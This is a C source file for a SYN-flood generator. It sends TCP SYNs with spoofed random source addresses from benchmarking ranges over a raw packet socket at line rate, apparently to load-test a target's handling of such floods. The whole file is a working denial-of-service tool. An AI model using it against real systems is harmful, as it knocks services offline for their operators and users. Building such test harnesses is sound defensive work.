/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * nj-synflood: SYNs from random addresses that no host has, at the maximum rate of the device.
 *
 * The addresses are from 198.18.0.0/15 or 2001:db8::/32, without the first /24 or /64, which is the
 * link's own network. So the target needs no ARP for them, as in a flood that comes through a
 * router. The SYNs have correct checksums and the options of an ordinary client, so that the target
 * cannot distinguish them from those of clients.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/prng.h"
#include "base/types.h"
#include "threads/os_clock.h"

#define BATCH       64u
#define ETH_BYTES   14u
#define OPT_BYTES   20u
#define TCP_BYTES   (20 + OPT_BYTES)
#define FRAME_BYTES (ETH_BYTES + 40 + TCP_BYTES)
#define TSVAL_AT    8u /* in the options */

struct flood {
    int fd;
    uint8_t mac[2][6]; /* to, from */
    uint8_t to[16];
    bool is_v6;
    uint16_t port;
    struct nj_prng prng;
    uint64_t sent, failed;
    uint8_t frame[BATCH][FRAME_BYTES];
};

static volatile sig_atomic_t ended;

static void end(int number)
{
    ended = 1;
}

static uint32_t add(uint32_t sum, const uint8_t *p, uint32_t n)
{
    for (uint32_t i = 0; i < n; i += 2)
        sum += (uint32_t)p[i] << 8 | p[i + 1];
    return sum;
}

static void put16(uint8_t *p, uint32_t value)
{
    p[0] = (uint8_t)(value >> 8);
    p[1] = (uint8_t)value;
}

static void put_sum(uint8_t *p, uint32_t sum)
{
    sum = (sum & 0xffff) + (sum >> 16);
    put16(p, ~(sum + (sum >> 16)));
}

static uint32_t addr_bytes(const struct flood *f)
{
    return f->is_v6 ? 16 : 4;
}

static uint32_t ip_bytes(const struct flood *f)
{
    return f->is_v6 ? 40 : 20;
}

static uint8_t *source(const struct flood *f, uint8_t *frame)
{
    return frame + ETH_BYTES + (f->is_v6 ? 8 : 12);
}

/* Writes the fields that are the same in all frames. make() writes the others. */
static void prepare(const struct flood *f, uint8_t *frame)
{
    static const uint8_t OPTIONS[OPT_BYTES] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0,
                                               0, 0, 0,    0,    0, 0, 1, 3,  3, 7};
    static const uint8_t V4[12] = {0x45, 0, 0, 20 + TCP_BYTES, 0, 0, 0x40, 0, 64, IPPROTO_TCP};
    static const uint8_t V6[8] = {0x60, 0, 0, 0, 0, TCP_BYTES, IPPROTO_TCP, 64};
    uint8_t *tcp = frame + ETH_BYTES + ip_bytes(f);

    memcpy(frame, f->mac, sizeof f->mac);
    put16(frame + 12, f->is_v6 ? ETH_P_IPV6 : ETH_P_IP);
    memcpy(frame + ETH_BYTES, f->is_v6 ? V6 : V4, f->is_v6 ? sizeof V6 : sizeof V4);
    memcpy(source(f, frame) + addr_bytes(f), f->to, addr_bytes(f));
    put16(tcp + 2, f->port);
    tcp[12] = TCP_BYTES / 4 << 4;
    tcp[13] = 2; /* SYN */
    put16(tcp + 14, 64240);
    memcpy(tcp + 20, OPTIONS, sizeof OPTIONS);
}

static void draw_source(struct flood *f, uint8_t *at)
{
    uint64_t a = nj_prng_next(&f->prng), b = nj_prng_next(&f->prng);

    if (f->is_v6) {
        memcpy(at, (uint8_t[]){0x20, 0x01, 0x0d, 0xb8}, 4);
        memcpy(at + 4, &a, 4);
        memcpy(at + 8, &b, 8);
        at[7] |= 1; /* not 2001:db8::/64 */
        return;
    }
    memcpy(at, (uint8_t[]){198, 18 + (a & 1), (uint8_t)(a >> 8), (uint8_t)(a >> 16)}, 4);
    if (at[1] == 18 && at[2] == 0)
        at[2] = 1 + (uint8_t)(b % 255);
}

/* Writes the source, the sequence number, the timestamp and the checksums. */
static void make(struct flood *f, uint8_t *frame)
{
    uint8_t *tcp = frame + ETH_BYTES + ip_bytes(f), *from = source(f, frame);
    uint64_t a = nj_prng_next(&f->prng);

    draw_source(f, from);
    put16(tcp, 1024 + (uint32_t)(a % 64512));
    memcpy(tcp + 4, (uint8_t *)&a + 4, 4);
    put16(tcp + 20 + TSVAL_AT, (uint32_t)(a >> 16) & 0xffff);
    put16(tcp + 16, 0);
    uint32_t pseudo = add(IPPROTO_TCP + TCP_BYTES, from, 2 * addr_bytes(f));
    put_sum(tcp + 16, add(pseudo, tcp, TCP_BYTES));
    if (!f->is_v6) {
        put16(frame + ETH_BYTES + 10, 0);
        put_sum(frame + ETH_BYTES + 10, add(0, frame + ETH_BYTES, 20));
    }
}

static void send_batch(struct flood *f)
{
    struct mmsghdr message[BATCH] = {0};
    struct iovec piece[BATCH];

    for (uint32_t i = 0; i < BATCH; i++) {
        make(f, f->frame[i]);
        piece[i] = (struct iovec){f->frame[i], ETH_BYTES + ip_bytes(f) + TCP_BYTES};
        message[i].msg_hdr = (struct msghdr){.msg_iov = &piece[i], .msg_iovlen = 1};
    }
    for (uint32_t at = 0; at < BATCH;) {
        int n = sendmmsg(f->fd, message + at, BATCH - at, 0);
        f->sent += n > 0 ? (uint32_t)n : 0;
        f->failed += n <= 0; /* the device's queue is full: the frame is dropped */
        at += n > 0 ? (uint32_t)n : 1;
    }
}

/* Sends for `duration`, at most `rate` frames per second; 0: at the maximum rate. Returns the time
 * that it took. */
static nj_ns run(struct flood *f, nj_ns duration, uint64_t rate)
{
    nj_ns began = nj_os_clock_gettime_ns(CLOCK_MONOTONIC), now = began;

    for (; !ended && now - began < duration; now = nj_os_clock_gettime_ns(CLOCK_MONOTONIC)) {
        nj_ns due = rate ? (f->sent + f->failed) * NJ_SEC / rate : 0;
        if (due > now - began) {
            struct timespec t = {.tv_nsec = (long)((due - (now - began)) % NJ_SEC)};
            nanosleep(&t, NULL);
        } else {
            send_batch(f);
        }
    }
    return now - began;
}

static bool open_device(struct flood *f, const char *name)
{
    struct sockaddr_ll to = {.sll_family = AF_PACKET};
    struct ifreq r = {0};
    int yes = 1;

    strncpy(r.ifr_name, name, sizeof r.ifr_name - 1);
    f->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0); /* 0: receives no frames */
    if (f->fd < 0 || ioctl(f->fd, SIOCGIFHWADDR, &r))
        return false;
    memcpy(f->mac[1], r.ifr_hwaddr.sa_data, 6);
    to.sll_ifindex = (int)if_nametoindex(name);
    return setsockopt(f->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof yes) == 0 &&
           bind(f->fd, (struct sockaddr *)&to, sizeof to) == 0;
}

static int usage(void)
{
    fprintf(stderr, "usage: nj-synflood --to ADDRESS --mac MAC [--port 80] [--seconds 5]\n"
                    "                   [--rate PER_SECOND] [--seed 1] IFACE\n");
    return 2;
}

int main(int argc, char **argv)
{
    static const struct option OPTIONS[] = {{"to", 1, NULL, 't'},   {"mac", 1, NULL, 'm'},
                                            {"port", 1, NULL, 'p'}, {"seconds", 1, NULL, 's'},
                                            {"rate", 1, NULL, 'r'}, {"seed", 1, NULL, 'x'},
                                            {NULL, 0, NULL, 0}};
    static struct flood f = {.port = 80};
    uint64_t seconds = 5, rate = 0, seed = 1;
    bool has_to = false, has_mac = false;

    for (int c; (c = getopt_long(argc, argv, "", OPTIONS, NULL)) != -1;) {
        uint8_t *m = f.mac[0];
        if (c == 't') {
            f.is_v6 = inet_pton(AF_INET6, optarg, f.to) == 1;
            has_to = f.is_v6 || inet_pton(AF_INET, optarg, f.to) == 1;
        } else if (c == 'm') {
            has_mac = sscanf(optarg, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", m, m + 1, m + 2, m + 3, m + 4,
                             m + 5) == 6;
        } else if (c == 'p') {
            f.port = (uint16_t)strtoul(optarg, NULL, 10);
        } else if (c == 's') {
            seconds = strtoull(optarg, NULL, 10);
        } else if (c == 'r') {
            rate = strtoull(optarg, NULL, 10);
        } else if (c == 'x') {
            seed = strtoull(optarg, NULL, 0);
        } else {
            return usage();
        }
    }
    if (!has_to || !has_mac || argc - optind != 1)
        return usage();
    if (!open_device(&f, argv[optind])) {
        fprintf(stderr, "nj-synflood: %s: %s\n", argv[optind], strerror(errno));
        return 1;
    }
    signal(SIGTERM, end);
    signal(SIGINT, end);
    nj_prng_init(&f.prng, seed);
    for (uint32_t i = 0; i < BATCH; i++)
        prepare(&f, f.frame[i]);
    nj_ns took = run(&f, seconds * NJ_SEC, rate);
    printf("{\"sent\": %llu, \"failed\": %llu, \"seconds\": %.3f, \"per_second\": %.0f}\n",
           (unsigned long long)f.sent, (unsigned long long)f.failed, (double)took / 1e9,
           (double)f.sent * 1e9 / (double)took);
    return 0;
}
